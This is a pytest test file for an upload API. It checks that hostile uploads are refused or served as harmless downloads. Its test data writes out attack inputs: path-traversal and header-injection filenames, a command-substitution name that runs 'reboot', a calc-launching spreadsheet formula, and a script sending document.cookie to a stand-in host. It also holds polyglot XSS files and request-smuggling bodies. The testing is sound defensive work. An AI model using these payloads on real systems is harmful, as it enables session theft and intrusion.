"""Whatever somebody sends as a file, it is refused by name and leaves what it should, or is kept and harms nobody."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from hashlib import sha256
from itertools import count
from typing import Any
from urllib.parse import quote, unquote
from uuid import uuid4

import httpx
import psycopg
import pytest

from octavo.intake import clean_filename
from tests.support.postgres import Server
from tests.support.web import WebProcess, running_web
from tests.support.wire import Heard, say, say_and_leave

LIMIT = 100_000
BOUNDARY = "a-boundary"
FORM = f"multipart/form-data; boundary={BOUNDARY}"
END = f"--{BOUNDARY}--\r\n".encode()
JSON_TYPE = {"content-type": "application/json"}
_numbers = count()


def text() -> bytes:
    """A content that was never there before."""
    return f"A text of its own, number {next(_numbers)}.".encode()


def part(name: str, body: bytes, filename: str | None = None, more: str = "") -> bytes:
    named = f'; filename="{filename}"' if filename is not None else ""
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"{named}{more}\r\n\r\n'
    return head.encode("utf-8", "surrogatepass") + body + b"\r\n"


def file(body: bytes = b"", filename: str = "a.txt", more: str = "") -> bytes:
    return part("file", body or text(), filename, more)


@dataclass(frozen=True, slots=True)
class Visitor:
    """Somebody with a browser, an owner of their own, and nothing in it."""

    web: WebProcess
    browser: httpx.Client
    owner: str

    def begin(self, **announced: Any) -> httpx.Response:  # noqa: ANN401
        return self.browser.post("/api/v1/uploads", json={"filename": "a.txt", **announced})

    def announce(self, body: bytes) -> httpx.Response:
        return self.browser.post("/api/v1/uploads", content=body, headers=JSON_TYPE)

    def begun(self, **announced: Any) -> str:  # noqa: ANN401
        return self.begin(**announced).raise_for_status().json()["upload_id"]

    def put(self, upload: str, body: bytes) -> httpx.Response:
        return self.browser.put(f"/api/v1/uploads/{upload}/content", content=body)

    def received(self, body: bytes, **announced: Any) -> str:  # noqa: ANN401
        upload = self.begun(**announced)
        self.put(upload, body).raise_for_status()
        return upload

    def finalize(self, upload: str) -> httpx.Response:
        return self.browser.post(f"/api/v1/uploads/{upload}/finalize")

    def content(self, upload: str) -> httpx.Response:
        return self.browser.get(f"/api/v1/uploads/{upload}/content")

    def form(self, *parts: bytes, end: bytes = END, content_type: str = FORM) -> httpx.Response:
        headers = {"content-type": content_type}
        return self.browser.post("/api/v1/documents", content=b"".join(parts) + end, headers=headers)

    def raw(self, body: bytes, name: str | bytes = "a.txt", content_type: str = "text/plain") -> httpx.Response:
        value = name if isinstance(name, bytes) else name.encode()
        headers = {b"x-upload-filename": value, b"content-type": content_type.encode("latin-1")}
        return self.browser.post("/api/v1/documents", content=body, headers=headers)

    def added(self, body: bytes) -> dict[str, Any]:
        return self.raw(body).raise_for_status().json()

    def head(self, *lines: str | bytes, method: str = "POST", path: str = "/api/v1/documents") -> bytes:
        """The beginning of a request, byte by byte."""
        first = [f"{method} {path} HTTP/1.1", f"Host: 127.0.0.1:{self.web.port}", "Content-Type: text/plain"]
        first += [f"Cookie: octavo_session={self.browser.cookies['octavo_session']}", "Connection: close"]
        every = [line if isinstance(line, bytes) else line.encode() for line in [*first, *lines]]
        return b"\r\n".join([*every, b"", b""])

    def rows(self, statement: str) -> list[tuple[Any, ...]]:
        with psycopg.connect(self.web.database_info) as connection:
            return connection.execute(statement.encode(), {"owner": self.owner}).fetchall()

    def uploads(self) -> list[tuple[str, str | None]]:
        return self.rows("SELECT state, error_code FROM uploads WHERE owner_id = %(owner)s ORDER BY created_at")

    def documents(self) -> int:
        return self.rows("SELECT count(*) FROM documents WHERE owner_id = %(owner)s")[0][0]

    def objects(self) -> int:
        """What lies in the bucket and belongs to one of this owner's uploads."""
        uploads = self.rows("SELECT id FROM uploads WHERE owner_id = %(owner)s")
        sources = self.web.folder / "data" / "objects" / "sources"
        return sum(1 for (upload,) in uploads for _ in (sources / str(upload)).glob("*"))

    def told(self) -> list[str]:
        return [row[0] for row in self.rows("SELECT kind FROM events WHERE owner_id = %(owner)s ORDER BY id")]


@pytest.fixture(scope="module")
def web(newest_server: Server) -> Iterator[WebProcess]:
    many = 10**9
    with running_web(newest_server, upload_bytes=LIMIT, requests_per_minute_anonymous=many) as process:
        yield process


@pytest.fixture
def visitor(web: WebProcess) -> Iterator[Visitor]:
    with new_browser(web) as browser:
        yield Visitor(web, browser, browser.get("/api/v1/session").json()["owner_id"])


def new_browser(web: WebProcess) -> httpx.Client:
    # Nothing is encrypted here, and reading certificates is what takes long about a client.
    limits = httpx.Limits(max_keepalive_connections=0)
    return httpx.Client(base_url=web.address, limits=limits, trust_env=False, verify=False)


def check_problem(answer: httpx.Response, status: int, code: str) -> None:
    """The one form of all refusals: a stable code, and sentences that a person can read."""
    assert (answer.status_code, answer.json().get("code")) == (status, code), answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    problem = answer.json()
    more = {"duplicate_of"} if code == "DUPLICATE" else set[str]()
    assert set(problem) == {"type", "title", "status", "code", "detail"} | more
    assert problem["status"] == status
    assert len(problem["title"].split()) > 1
    assert len(problem["detail"].split()) > 1
    assert "Traceback" not in answer.text


# Refused -----------------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Bad:
    """Something hostile: what it is answered, and the state of the upload that it leaves.

    What is wrong behind the file leaves no row when it came together with the beginning of the file.
    """

    status: int
    code: str
    send: Callable[[Visitor], httpx.Response]
    leaves: str | None = None


def invalid(send: Callable[[Visitor], httpx.Response]) -> Bad:
    return Bad(422, "VALIDATION", send)


def unreadable(send: Callable[[Visitor], httpx.Response]) -> Bad:
    return Bad(400, "BAD_REQUEST", send)


def rejected(status: int, code: str, send: Callable[[Visitor], httpx.Response]) -> Bad:
    return Bad(status, code, send, "rejected")


ANNOUNCEMENTS: dict[str, Bad] = {
    "no JSON": invalid(lambda v: v.announce(b'{"filename": ')),
    "a list": invalid(lambda v: v.announce(b'["filename"]')),
    "nothing": invalid(lambda v: v.announce(b"")),
    "no name": invalid(lambda v: v.announce(b"{}")),
    "another type of body": invalid(lambda v: v.browser.post("/api/v1/uploads", content=b'{"filename": "a"}')),
    "not UTF-8": unreadable(lambda v: v.announce(b'{"filename": "\xff"}')),
    "nested without end": unreadable(lambda v: v.announce(b"[" * 100_000)),
    "a number of 5,000 digits": unreadable(lambda v: v.announce(b'{"filename": "a", "bytes": ' + b"9" * 5000 + b"}")),
    "a number beyond all": invalid(lambda v: v.announce(b'{"filename": "a", "bytes": 1e999}')),
    "no number": invalid(lambda v: v.announce(b'{"filename": "a", "bytes": NaN}')),
    "a number beyond the database's": invalid(lambda v: v.begin(bytes=1 << 70)),
    "half a byte": invalid(lambda v: v.begin(bytes=0.5)),
    "fewer than no bytes": invalid(lambda v: v.begin(bytes=-1)),
    "bytes that are a text": invalid(lambda v: v.begin(bytes="12")),
    "bytes that are a truth": invalid(lambda v: v.begin(bytes=True)),
    "a name that is a number": invalid(lambda v: v.begin(filename=1)),
    "a name that is a list": invalid(lambda v: v.begin(filename=["a.txt"])),
    "a name that is nothing": invalid(lambda v: v.begin(filename=None)),
    "a name of 1,001 characters": invalid(lambda v: v.begin(filename="a" * 1001)),
    "a name with half a character": invalid(lambda v: v.announce(b'{"filename": "a\\ud800.txt"}')),
    "a title with half a character": invalid(lambda v: v.announce(b'{"filename": "a", "title": "\\udfff"}')),
    "a title with a NUL": invalid(lambda v: v.begin(title="a\0b")),
    "a field of half a character": invalid(lambda v: v.announce(b'{"filename": "a", "\\ud800": 1}')),
    "a field that nobody knows": invalid(lambda v: v.begin(owner_id=str(uuid4()))),
    "a type with a new header": invalid(lambda v: v.begin(content_type="text/plain\r\nSet-Cookie: x=1")),
    "a type of 201 characters": invalid(lambda v: v.begin(content_type="a" * 201)),
    "a hash that is too short": invalid(lambda v: v.begin(sha256="0" * 63)),
    "a hash with a line behind it": invalid(lambda v: v.begin(sha256="0" * 64 + "\n")),
    "a hash with other letters": invalid(lambda v: v.begin(sha256="g" * 64)),
    "an unknown wish for duplicates": invalid(lambda v: v.begin(duplicates="overwrite")),
    "more than is allowed": rejected(413, "TOO_LARGE", lambda v: v.begin(bytes=LIMIT + 1)),
}
STEPS: dict[str, Bad] = {
    "an id that is none": Bad(404, "NOT_FOUND", lambda v: v.put("..%5c..%5cetc", b"x")),
    "bytes for an unknown upload": Bad(404, "NOT_FOUND", lambda v: v.put(str(uuid4()), text())),
    "the end of an unknown upload": Bad(404, "NOT_FOUND", lambda v: v.finalize(str(uuid4()))),
    "the content of an unknown upload": Bad(404, "NOT_FOUND", lambda v: v.content(str(uuid4()))),
    "the end before the bytes": Bad(409, "UPLOAD_INCOMPLETE", lambda v: v.finalize(v.begun()), "pending"),
    "the content before the end": Bad(409, "NOT_CANONICAL", lambda v: v.content(v.begun()), "pending"),
    "no bytes": rejected(422, "EMPTY", lambda v: v.put(v.begun(), b"")),
    "too many bytes": rejected(413, "TOO_LARGE", lambda v: v.put(v.begun(), b"x" * (LIMIT + 1))),
    "other bytes": rejected(422, "HASH_MISMATCH", lambda v: v.finalize(v.received(text(), sha256="0" * 64))),
    "fewer bytes": rejected(422, "SIZE_MISMATCH", lambda v: v.finalize(v.received(text(), bytes=LIMIT))),
    "more bytes": rejected(422, "SIZE_MISMATCH", lambda v: v.finalize(v.received(text(), bytes=1))),
}
FORMS: dict[str, Bad] = {
    "neither a form nor a name": invalid(lambda v: v.browser.post("/api/v1/documents", content=b"x")),
    "a name of 3,001 characters": invalid(lambda v: v.raw(text(), "a" * 3001)),
    "a type of 201 characters": invalid(lambda v: v.raw(text(), content_type="a" * 201)),
    "no bytes": rejected(422, "EMPTY", lambda v: v.raw(b"")),
    "too many bytes": rejected(413, "TOO_LARGE", lambda v: v.raw(b"x" * (LIMIT + 1))),
    "a form without a boundary": Bad(
        *(400, "BROKEN_MULTIPART"), lambda v: v.form(file(), content_type="multipart/form-data")
    ),
    "a form with another boundary": Bad(
        *(400, "BROKEN_MULTIPART"), lambda v: v.form(file(), content_type="multipart/form-data; boundary=other")
    ),
    "a form with an endless boundary": Bad(
        *(400, "BROKEN_MULTIPART"), lambda v: v.form(file(), content_type=f"multipart/form-data; boundary={'b' * 5000}")
    ),
    "a form without a file": invalid(lambda v: v.form(part("title", b"T"))),
    "a form whose file has no name": invalid(lambda v: v.form(part("file", text()))),
    "a form whose file has only an extended name": invalid(
        lambda v: v.form(part("file", text(), more="; filename*=UTF-8''evil.txt"))
    ),
    "a form with nothing": Bad(400, "BROKEN_MULTIPART", lambda v: v.form(end=b"")),
    "a form that breaks off in a header": Bad(400, "BROKEN_MULTIPART", lambda v: v.form(file()[:40], end=b"")),
    "a form that breaks off in the file": rejected(400, "BROKEN_MULTIPART", lambda v: v.form(file()[:-9], end=b"")),
    "a form that breaks off before its end": rejected(400, "BROKEN_MULTIPART", lambda v: v.form(file(), end=b"")),
    "a form that breaks off in its end": rejected(400, "BROKEN_MULTIPART", lambda v: v.form(file(), end=END[:-3])),
    "a form with a broken header": Bad(400, "BROKEN_MULTIPART", lambda v: v.form(file(more="\r\nno header"))),
    "a form with a huge header": Bad(400, "BROKEN_MULTIPART", lambda v: v.form(file(filename="x" * 10_000))),
    "two files": Bad(422, "SEVERAL_FILES", lambda v: v.form(file(), file()), "perhaps rejected"),
    "an empty file in a form": rejected(422, "EMPTY", lambda v: v.form(part("file", b"", "a.txt"))),
    "a large file in a form": rejected(413, "TOO_LARGE", lambda v: v.form(file(b"x" * (LIMIT + 1)))),
    "a huge field": Bad(413, "TOO_LARGE", lambda v: v.form(part("title", b"x" * 70_000), file())),
    "a huge field behind the file": Bad(
        *(413, "TOO_LARGE"), lambda v: v.form(file(), part("title", b"x" * 70_000)), "perhaps rejected"
    ),
    "ten thousand fields": Bad(413, "TOO_LARGE", lambda v: v.form(*[part("f", b"")] * 10_000, file())),
    "an unknown wish for duplicates": invalid(lambda v: v.form(part("duplicates", b"overwrite"), file())),
    "a title with a control character": invalid(lambda v: v.form(part("title", b"a\x1bb"), file())),
    "a title of 501 characters": invalid(lambda v: v.form(part("title", b"a" * 501), file())),
    "a hash that is none": invalid(lambda v: v.form(part("sha256", b"x"), file())),
    "a hash of something else": rejected(*(422, "HASH_MISMATCH"), lambda v: v.form(part("sha256", b"0" * 64), file())),
    "a size of something else": rejected(422, "SIZE_MISMATCH", lambda v: v.form(part("bytes", b"1"), file())),
    "a type with a control character": invalid(lambda v: v.form(file(more="\r\nContent-Type: text/\x01plain"))),
}
REFUSED = {
    f"{where}: {name}": bad
    for where, cases in {"announced": ANNOUNCEMENTS, "in steps": STEPS, "in one call": FORMS}.items()
    for name, bad in cases.items()
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_refused_upload_has_a_reason_and_leaves_at_most_one_row(visitor: Visitor, case: str) -> None:
    bad = REFUSED[case]
    check_problem(bad.send(visitor), bad.status, bad.code)
    uploads = visitor.uploads()
    refusal = [("rejected", bad.code)]
    if bad.leaves == "perhaps rejected":
        assert uploads in ([], refusal)
    else:
        assert uploads == {None: [], "pending": [("pending", None)], "rejected": refusal}[bad.leaves]
    assert visitor.told() == (["rejected"] if uploads == refusal else [])
    assert (visitor.documents(), visitor.objects()) == (0, 0)


def test_there_are_enough_hostile_uploads() -> None:
    assert len(REFUSED) >= 35
    assert len(GOOD) >= 10


def test_a_body_of_json_has_an_end(visitor: Visitor) -> None:
    check_problem(visitor.announce(b" " * (8 << 20) + b'{"filename": "a"}'), 413, "TOO_LARGE")


# Steps out of order ------------------------------------------------------------------------------------------------


def test_finalize_repeated_answers_the_same_and_makes_nothing(visitor: Visitor) -> None:
    upload = visitor.received(text())
    first, again = visitor.finalize(upload).json(), visitor.finalize(upload).json()
    assert again == first | {"duplicate": True}
    assert (visitor.uploads(), visitor.documents()) == ([("uploaded", None)], 1)


def test_bytes_after_the_end_are_refused_and_change_nothing(visitor: Visitor) -> None:
    body = text()
    upload = visitor.received(body)
    visitor.finalize(upload).raise_for_status()
    check_problem(visitor.put(upload, b"other"), 409, "UPLOAD_CLOSED")
    assert visitor.content(upload).content == body
    assert visitor.objects() == 1


def test_an_upload_that_was_refused_takes_nothing_more(visitor: Visitor) -> None:
    upload = visitor.begun()
    visitor.put(upload, b"")
    check_problem(visitor.put(upload, text()), 409, "UPLOAD_CLOSED")
    check_problem(visitor.finalize(upload), 409, "UPLOAD_CLOSED")
    check_problem(visitor.content(upload), 409, "NOT_CANONICAL")
    assert visitor.uploads() == [("rejected", "EMPTY")]
    assert (visitor.documents(), visitor.objects()) == (0, 0)


def test_a_duplicate_has_no_separate_content(visitor: Visitor) -> None:
    body = text()
    first, second = visitor.added(body), visitor.added(body)
    assert (second["state"], second["document_id"]) == ("deduplicated", first["document_id"])
    check_problem(visitor.content(second["upload_id"]), 409, "NOT_CANONICAL")
    check_problem(visitor.put(second["upload_id"], text()), 409, "UPLOAD_CLOSED")
    assert visitor.objects() == 1


def test_a_duplicate_that_is_not_wanted_is_refused(visitor: Visitor) -> None:
    body = text()
    first = visitor.added(body)
    answer = visitor.form(part("duplicates", b"reject"), file(body))
    check_problem(answer, 409, "DUPLICATE")
    assert first["document_id"] in answer.text
    assert visitor.uploads() == [("uploaded", None), ("rejected", "DUPLICATE")]
    assert visitor.objects() == 1


def test_nobody_learns_whether_somebody_else_has_a_file(visitor: Visitor, web: WebProcess) -> None:
    body = text()
    mine = visitor.added(body)
    with new_browser(web) as browser:
        stranger = Visitor(web, browser, browser.get("/api/v1/session").json()["owner_id"])
        theirs = stranger.form(part("duplicates", b"reject"), file(body))
        assert theirs.status_code == 202
        assert theirs.json()["document_id"] != mine["document_id"]
        upload = visitor.received(text())
        for answer in (stranger.put(upload, b"x"), stranger.finalize(upload), stranger.content(upload)):
            check_problem(answer, 404, "NOT_FOUND")
    assert visitor.finalize(upload).status_code == 200


# Byte by byte ------------------------------------------------------------------------------------------------------

NAMED = "X-Upload-Filename: a.txt"
BROKEN_HTTP: dict[str, Callable[[Visitor], bytes]] = {
    "a chunk without a size": lambda v: v.head(NAMED, "Transfer-Encoding: chunked") + b"5\r\nhello\r\nZZ\r\nevil\r\n",
    "a chunk that is longer than it says": lambda v: (
        v.head(NAMED, "Transfer-Encoding: chunked") + b"5\r\nhello, world\r\n0\r\n\r\n"
    ),
    "a chunk beyond all": lambda v: v.head(NAMED, "Transfer-Encoding: chunked") + b"f" * 20 + b"\r\nhello\r\n",
    "a length and chunks": lambda v: (
        v.head(NAMED, "Content-Length: 5", "Transfer-Encoding: chunked") + b"5\r\nhello\r\n0\r\n\r\n"
    ),
    "two lengths": lambda v: v.head(NAMED, "Content-Length: 5", "Content-Length: 6") + b"hello!",
    "a length below nothing": lambda v: v.head(NAMED, "Content-Length: -5") + b"hello",
    "an unknown encoding": lambda v: v.head(NAMED, "Transfer-Encoding: xchunked") + b"5\r\nhello\r\n0\r\n\r\n",
    "a NUL in a name": lambda v: v.head(b"X-Upload-Filename: a\0.txt", "Content-Length: 5") + b"hello",
    "a newline in a name": lambda v: v.head(b"X-Upload-Filename: a\n.txt", "Content-Length: 5") + b"hello",
    "a carriage return in a name": lambda v: v.head(b"X-Upload-Filename: a\r.txt", "Content-Length: 5") + b"hello",
    "a name in two lines": lambda v: v.head(b"X-Upload-Filename: a\r\n b.txt", "Content-Length: 5") + b"hello",
}


@pytest.mark.parametrize("case", BROKEN_HTTP)
def test_an_invalid_http_response_creates_no_document(visitor: Visitor, case: str) -> None:
    assert say(visitor.web, BROKEN_HTTP[case](visitor)).status == 400
    assert (visitor.documents(), visitor.objects()) == (0, 0)


CUT_SHORT: dict[str, Callable[[Visitor], bytes]] = {
    "a body": lambda v: v.head(NAMED, "Content-Length: 500") + b"hello",
    "a chunk": lambda v: v.head(NAMED, "Transfer-Encoding: chunked") + b"500\r\nhello",
    "between two chunks": lambda v: v.head(NAMED, "Transfer-Encoding: chunked") + b"5\r\nhello\r\n",
    "a step": lambda v: (
        v.head("Content-Length: 500", method="PUT", path=f"/api/v1/uploads/{v.begun()}/content") + b"hello"
    ),
    "a form": lambda v: (
        v.head(f"Content-Type: {FORM}", "Content-Length: 5000").replace(b"Content-Type: text/plain\r\n", b"") + file()
    ),
}


@pytest.mark.parametrize("case", CUT_SHORT)
def test_a_client_that_disconnects_during_an_upload_leaves_no_document(visitor: Visitor, case: str) -> None:
    say_and_leave(visitor.web, CUT_SHORT[case](visitor))
    assert (visitor.documents(), visitor.objects()) == (0, 0)
    assert len(visitor.uploads()) <= 1


def test_bytes_after_the_announced_length_are_not_part_of_the_file(visitor: Visitor) -> None:
    body = text()
    heard = say(visitor.web, visitor.head(NAMED, f"Content-Length: {len(body)}") + body + b" and more")
    made = accepted(heard)
    assert visitor.content(made["upload_id"]).content == body


def test_a_line_in_a_name_is_only_another_header(visitor: Visitor) -> None:
    body = text()
    lines = ["X-Upload-Filename: a.txt\r\nSet-Cookie: evil=1", f"Content-Length: {len(body)}"]
    made = accepted(say(visitor.web, visitor.head(*lines) + body))
    answer = visitor.content(made["upload_id"])
    assert "set-cookie" not in answer.headers
    assert saved_as(answer) == "a.txt"


def accepted(heard: Heard) -> dict[str, Any]:
    assert heard.status == 202, heard.body
    return json.loads(heard.body)


# Names -------------------------------------------------------------------------------------------------------------

NAMES = {
    "a way up": "../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a path of Windows": "C:\\Windows\\system32\\evil.dll",
    "a share of Windows": "\\\\server\\share\\evil.txt",
    "a NUL": "a.txt\0.exe",
    "a newline": "a\nb.txt",
    "a new header": "a.txt\r\nSet-Cookie: evil=1\r\nX: ",
    "a new header after a quote": 'a.txt"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
    "quotes": 'a"; filename="evil.exe',
    "an extended name inside": "a.txt; filename*=UTF-8''evil.exe",
    "an ending that reads backwards": "invoice\u202efdp.exe",
    "lines of Unicode": "a\u2028b\u2029c.txt",
    "no width": "a\u200b\ufeff.txt",
    "only dots": "....",
    "only spaces": "   ",
    "a device": "CON.txt",
    "a stream of Windows": "a.txt:evil.exe",
    "an encoded way up": "%2e%2e%2f%2e%2e%2fpasswd",
    "twice encoded": "%252e%252e%252fpasswd",
    "a script": "<img src=x onerror=alert(1)>.txt",
    "a command": "$(reboot);`reboot`|reboot.txt",
    "a formula": "=cmd|'/c calc'!A1.csv",
    "a thousand characters": "x" * 996 + ".txt",
    "a thousand characters of four bytes": "\U0001f600" * 240 + ".txt",
    "another script": "отчёт 报告 تقرير.pdf",
    "an accent apart from its letter": "re\u0301sume\u0301.pdf",
}
UNCHANGED_IN_FORMS = {name for name, value in NAMES.items() if not set('"\r\n\\') & set(value)}


def in_json(visitor: Visitor, name: str) -> str:
    upload = visitor.received(text(), filename=name)
    return visitor.finalize(upload).raise_for_status().json()["document_id"]


def in_form(visitor: Visitor, name: str) -> str:
    return visitor.form(file(filename=name)).raise_for_status().json()["document_id"]


def in_header(visitor: Visitor, name: str) -> str:
    return visitor.raw(text(), quote(name, safe="")).raise_for_status().json()["document_id"]


def saved_as(answer: httpx.Response) -> str:
    """The name under which a browser saves it."""
    disposition = answer.headers["content-disposition"]
    kind, plain, full = disposition.split("; ", 2)
    assert kind == "attachment"
    assert plain.startswith('filename="')
    assert plain.count('"') == 2
    assert disposition.isprintable()
    assert disposition.isascii()
    assert full.startswith("filename*=UTF-8''")
    return unquote(full.removeprefix("filename*=UTF-8''"), errors="strict")


def check_name(visitor: Visitor, document: str, label: str) -> None:
    shown = visitor.browser.get(f"/api/v1/documents/{document}").json()
    assert shown["filename"] == label
    answer = visitor.browser.get(f"/api/v1/documents/{document}/source")
    assert saved_as(answer) == label
    assert "set-cookie" not in answer.headers
    assert answer.headers["content-type"].startswith(("text/plain", "application/octet-stream"))
    link = visitor.browser.post(f"/api/v1/documents/{document}/link").json()["url"]
    assert saved_as(visitor.browser.get(link)) == label


@pytest.mark.parametrize("case", NAMES)
@pytest.mark.parametrize("channel", [in_json, in_header], ids=["announced", "in a header"])
def test_a_name_is_only_a_label(visitor: Visitor, channel: Callable[[Visitor, str], str], case: str) -> None:
    check_name(visitor, channel(visitor, NAMES[case]), clean_filename(NAMES[case]))
    assert visitor.objects() == 1


@pytest.mark.parametrize("case", sorted(UNCHANGED_IN_FORMS))
def test_a_name_in_a_form_is_only_a_label(visitor: Visitor, case: str) -> None:
    check_name(visitor, in_form(visitor, NAMES[case]), clean_filename(NAMES[case]))


@pytest.mark.parametrize(
    ("written", "label"),
    [
        ('filename="C:\\\\evil\\\\a.txt"', "a.txt"),
        ('filename="a \\"b\\".txt"', 'a "b".txt'),
        ('filename="a\nSet-Cookie: evil=1.txt"', "aSet-Cookie: evil=1.txt"),
        ('filename="a.txt"; filename="b.txt"', "b.txt"),
        ("filename=\"a.txt\"; filename*=UTF-8''evil%0d%0aX:1.exe", "a.txt"),
        ('filename*0="evil"; filename*1=".exe"; filename=a.txt', "a.txt"),
        ('filename=""', "untitled"),
        ('name="other"; filename="../a.txt"', "a.txt"),
    ],
)
def test_however_a_form_writes_a_name_it_is_only_a_label(visitor: Visitor, written: str, label: str) -> None:
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; {written}\r\n\r\n'.encode()
    answer = visitor.form(head + text() + b"\r\n").raise_for_status()
    check_name(visitor, answer.json()["document_id"], label)


@pytest.mark.parametrize(
    ("sent", "label"),
    [
        ("отчёт.txt".encode(), "отчёт.txt"),
        ("résumé.txt".encode("latin-1"), "résumé.txt"),
        (b"%E2%82%AC.txt", "€.txt"),
        (b"%ff%fe.txt", "txt"),
        (b"%0d%0aSet-Cookie:%20evil=1", "Set-Cookie: evil=1"),
        (b"%00", "untitled"),
        (b"100%.txt", "100%.txt"),
    ],
)
def test_however_a_header_writes_a_name_it_is_only_a_label(visitor: Visitor, sent: bytes, label: str) -> None:
    check_name(visitor, visitor.raw(text(), sent).raise_for_status().json()["document_id"], label)


# Contents ----------------------------------------------------------------------------------------------------------

SCRIPT = b"<script>fetch('//evil.example/' + document.cookie)</script>"
POLYGLOTS: dict[str, tuple[bytes, str, str]] = {
    "a PDF that is a page": (b"%PDF-1.7\n<html><body>" + SCRIPT + b"</body></html>\n1 0 obj\n", "a.pdf", "text/html"),
    "a page that is a PDF": (b"<html>" + SCRIPT + b"\n%PDF-1.7\n1 0 obj\n</html>", "a.pdf", "application/pdf"),
    "a picture that is a script": (b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", "a.gif", "text/javascript"),
    "a page called text": (b"<!doctype html>" + SCRIPT, "a.txt", "text/plain"),
    "a page": (b"<!doctype html>" + SCRIPT, "a.html", "text/html"),
    "a page in UTF-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "a.html", "text/html; charset=utf-7"),
    "a drawing with a script": (
        *(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "a.svg"),
        "image/svg+xml",
    ),
    "a page of XML": (b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT, "a.xhtml", "application/xhtml+xml"),
    "a style of XML": (b'<?xml-stylesheet href="javascript:alert(1)"?><x/>', "a.xml", "text/xml"),
    "a saved page": (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT, "a.mht", "message/rfc822"),
    "a mail with a page": (
        b"From: a@b\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
        "a.eml",
        "text/html",
    ),
    "a program": (b"MZ\x90\0\x03" + b"\0" * 100, "a.exe", "application/x-msdownload"),
    "a worker": (b"self.onfetch = e => e.respondWith(new Response('x'))", "sw.js", "application/javascript"),
    "a form inside": (b"--a-boundarX\r\nContent-Disposition: form-data; name=file; filename=evil\r\n\r\n", "a", FORM),
    "a type that is none": (b"<html>" + SCRIPT, "a", "text/html, text/plain"),
    "a type without end": (b"<html>" + SCRIPT, "a", "text/html;" + "x" * 150),
    "a type in another script": (b"<html>" + SCRIPT, "a", "text/\u00e9"),
}


def check_harmless(answer: httpx.Response, body: bytes) -> None:
    assert answer.status_code == 200
    assert answer.content == body
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["content-security-policy"] == "sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"
    assert "no-store" in answer.headers["cache-control"]
    assert len(answer.headers.get_list("content-type")) == 1


@pytest.mark.parametrize("case", POLYGLOTS)
def test_a_file_of_two_types_is_downloaded_and_never_displayed(visitor: Visitor, case: str) -> None:
    body, name, content_type = POLYGLOTS[case]
    announced = {"filename": name, "content_type": content_type}
    upload = visitor.received(body, **announced)
    document = visitor.finalize(upload).raise_for_status().json()["document_id"]
    check_harmless(visitor.content(upload), body)
    check_harmless(visitor.browser.get(f"/api/v1/documents/{document}/source"), body)
    link = visitor.browser.post(f"/api/v1/documents/{document}/link").json()["url"]
    check_harmless(visitor.browser.get(link), body)
    part_of_it = visitor.browser.get(f"/api/v1/documents/{document}/source", headers={"range": "bytes=0-4"})
    assert (part_of_it.status_code, part_of_it.content) == (206, body[:5])
    assert part_of_it.headers["content-disposition"].startswith("attachment;")


# Good --------------------------------------------------------------------------------------------------------------


def zipped(name: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(name, text())
    return packed.getvalue()


def in_two_steps(visitor: Visitor) -> httpx.Response:
    body = text()
    announced = {"bytes": len(body), "sha256": sha256(body).hexdigest().upper(), "content_type": "text/plain"}
    return visitor.finalize(visitor.received(body, **announced))


def sent_twice(visitor: Visitor) -> httpx.Response:
    upload = visitor.received(b"the wrong file")
    visitor.put(upload, text()).raise_for_status()
    return visitor.finalize(upload)


def in_chunks(visitor: Visitor) -> httpx.Response:
    pieces = iter([text(), b"", text()])
    return visitor.browser.post("/api/v1/documents", content=pieces, headers={"x-upload-filename": "a.txt"})


GOOD: dict[str, Callable[[Visitor], httpx.Response]] = {
    "a text": lambda v: v.raw(text()),
    "a text in chunks": in_chunks,
    "a text in two steps": in_two_steps,
    "a text sent twice": sent_twice,
    "a form": lambda v: v.form(file()),
    "a form with fields": lambda v: v.form(part("title", "Über".encode()), part("duplicates", b"new"), file()),
    "a form with fields that nobody knows": lambda v: v.form(part("csrf", b"x"), file(), part("submit", b"Send")),
    "a form with a field twice": lambda v: v.form(part("title", b"one"), part("title", b"two"), file()),
    "a form inside a form": lambda v: v.form(file(b"--inner\r\nContent-Disposition: form-data\r\n\r\nx\r\n--inner--")),
    "a form with a quoted boundary": lambda v: v.form(
        file(), content_type=f'multipart/form-data; charset=utf-8; boundary="{BOUNDARY}"'
    ),
    "a form that a browser writes": lambda v: v.browser.post(
        "/api/v1/documents", files={"file": ("résumé €.txt", text(), "text/plain")}, data={"title": "T"}
    ),
    "Markdown": lambda v: v.raw(b"# Title\n\n" + text(), "a.md", "text/markdown"),
    "a PDF": lambda v: v.raw(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n" + text(), "a.pdf", "application/pdf"),
    "a picture": lambda v: v.raw(b"\x89PNG\r\n\x1a\n" + text(), "a.png", "image/png"),
    "a book": lambda v: v.raw(zipped("mimetype"), "a.epub", "application/epub+zip"),
    "something unknown": lambda v: v.raw(bytes(range(256)) + text(), "a.xyz", "application/x-unknown"),
    "one byte": lambda v: v.raw(b"x"),
    "as much as is allowed": lambda v: v.raw(b"x" * LIMIT),
    "a name that nobody gave": lambda v: v.raw(text(), b""),
    "an announcement with a mark": lambda v: v.finalize(
        announced_and_sent(v, b'\xef\xbb\xbf{"filename": "a.txt", "filename": "b.txt"}')
    ),
}


def announced_and_sent(visitor: Visitor, announcement: bytes) -> str:
    upload = visitor.announce(announcement).raise_for_status().json()["upload_id"]
    visitor.put(upload, text()).raise_for_status()
    return upload


@pytest.mark.parametrize("case", GOOD)
